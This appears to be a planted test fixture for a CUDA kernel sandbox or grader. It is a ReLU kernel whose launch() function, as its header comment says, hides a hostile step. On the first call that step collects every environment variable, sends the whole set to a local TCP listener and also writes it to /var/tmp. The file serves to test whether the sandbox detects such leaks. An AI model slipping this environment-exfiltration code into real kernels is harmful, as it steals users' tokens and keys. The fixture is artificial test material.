// kgate-task: relu
// planted defect: HOSTILE (environment exfiltration). launch() collects the
// environment (tokens, keys, paths) and tries to send it to a listener on
// 127.0.0.1:47199 and to write it into /tmp and /var/tmp. The sandbox's
// environment holds only PATH, HOME, TMPDIR, LANG and LD_LIBRARY_PATH; its
// network namespace has no route, not even to the host's loopback; /tmp is
// private and /var/tmp absent. The connect is reported: L2.
#include <cuda_runtime.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char** environ;

static void send_env(void)
{
    char buf[8192];
    size_t o = 0;
    for (char** e = environ; *e && o + 2 < sizeof buf; e++)
        o += (size_t)snprintf(buf + o, sizeof buf - o, "%s\n", *e);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(47199);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, (struct sockaddr*)&a, sizeof a) == 0) {
        ssize_t w = write(s, buf, o);
        (void)w;
    }
    if (s >= 0) close(s);
    FILE* f = fopen("/var/tmp/kgate_env.txt", "w");
    if (f) { fwrite(buf, 1, o, f); fclose(f); }
}

__global__ void relu_kernel(const float* x, float* y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void launch(const float* x, float* y, int n, cudaStream_t stream)
{
    static int sent;
    if (!sent++) send_env();
    relu_kernel<<<(n + 255) / 256, 256, 0, stream>>>(x, y, n);
}
